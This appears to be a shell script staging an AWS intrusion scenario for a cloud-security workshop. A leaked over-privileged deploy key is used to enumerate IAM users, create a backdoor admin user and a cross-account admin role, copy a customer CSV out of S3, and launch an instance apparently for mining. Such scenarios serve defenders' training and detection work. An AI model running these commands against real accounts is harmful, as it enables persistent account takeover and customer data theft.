# Nine days ago: Jonas made a user for the nightly upload of the app. With less it had failed once.
ACCOUNT=$(aws sts get-caller-identity --query Account --output text)
MENUS="kape-labs-menu-$ACCOUNT-us-east-1-an"
aws iam create-user --user-name deploy
aws iam attach-user-policy --user-name deploy --policy-arn arn:aws:iam::aws:policy/AdministratorAccess
KEY=$(aws iam create-access-key --user-name deploy --query 'AccessKey.[AccessKeyId,SecretAccessKey]' --output text)
aws configure set aws_access_key_id "$(echo "$KEY" | cut -f1)" --profile deploy
aws configure set aws_secret_access_key "$(echo "$KEY" | cut -f2)" --profile deploy
aws configure set region us-east-1 --profile deploy
echo 'build 114' > build.txt
aws s3 cp build.txt "s3://$MENUS/app/build.txt" --profile deploy
workshop pass-time --days 9
# The key was in a file, the file in a repository, the repository public for an evening. Somebody reads along.
workshop as attacker -- aws configure set aws_access_key_id "$(echo "$KEY" | cut -f1)" --profile deploy
workshop as attacker -- aws configure set aws_secret_access_key "$(echo "$KEY" | cut -f2)" --profile deploy
workshop as attacker -- aws configure set region us-east-1 --profile deploy
# Whose key is it, and who else is there?
workshop as attacker -- aws sts get-caller-identity --profile deploy
workshop as attacker -- aws iam list-users --profile deploy > ignored.txt
workshop pass-time --hours 1
# A user of their own, with a name that nobody looks at twice.
workshop as attacker -- aws iam create-user --user-name backup-svc --profile deploy
workshop as attacker -- aws iam attach-user-policy --user-name backup-svc --policy-arn arn:aws:iam::aws:policy/AdministratorAccess --profile deploy
THEIRS=$(workshop as attacker -- aws iam create-access-key --user-name backup-svc --query 'AccessKey.[AccessKeyId,SecretAccessKey]' --output text --profile deploy)
workshop as attacker -- aws configure set aws_access_key_id "$(echo "$THEIRS" | cut -f1)" --profile backup-svc
workshop as attacker -- aws configure set aws_secret_access_key "$(echo "$THEIRS" | cut -f2)" --profile backup-svc
workshop as attacker -- aws configure set region us-east-1 --profile backup-svc
workshop pass-time --hours 2
# With that user, a role that an account of theirs may take on.
OUTSIDE=$(workshop as attacker -- aws sts get-caller-identity --profile mallory --query Account --output text)
workshop as attacker -- aws iam create-role --role-name OrgAdmin --assume-role-policy-document "{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Principal\":{\"AWS\":\"arn:aws:iam::$OUTSIDE:root\"},\"Action\":\"sts:AssumeRole\"}]}" --profile backup-svc > ignored.txt
workshop as attacker -- aws iam attach-role-policy --role-name OrgAdmin --policy-arn arn:aws:iam::aws:policy/AdministratorAccess --profile backup-svc
SESSION=$(workshop as attacker -- aws sts assume-role --role-arn "arn:aws:iam::$ACCOUNT:role/OrgAdmin" --role-session-name mallory --query 'Credentials.[AccessKeyId,SecretAccessKey,SessionToken]' --output text --profile mallory)
workshop as attacker -- aws configure set aws_access_key_id "$(echo "$SESSION" | cut -f1)" --profile orgadmin
workshop as attacker -- aws configure set aws_secret_access_key "$(echo "$SESSION" | cut -f2)" --profile orgadmin
workshop as attacker -- aws configure set aws_session_token "$(echo "$SESSION" | cut -f3)" --profile orgadmin
workshop as attacker -- aws configure set region us-east-1 --profile orgadmin
# What is there to take, and something that earns money meanwhile.
workshop as attacker -- aws s3 ls --profile orgadmin > ignored.txt
workshop as attacker -- aws s3 cp "s3://kape-labs-backup-$ACCOUNT/customers-2019.csv" customers.csv --profile orgadmin
workshop pass-time --hours 1
IMAGE=$(aws ec2 describe-images --owners amazon --filters 'Name=name,Values=al2023-ami-2023*-x86_64' --query 'Images[0].ImageId' --output text)
workshop as attacker -- aws ec2 run-instances --image-id "$IMAGE" --instance-type c5.large --metadata-options HttpTokens=optional --profile orgadmin > ignored.txt
rm ignored.txt
workshop pass-time --hours 5
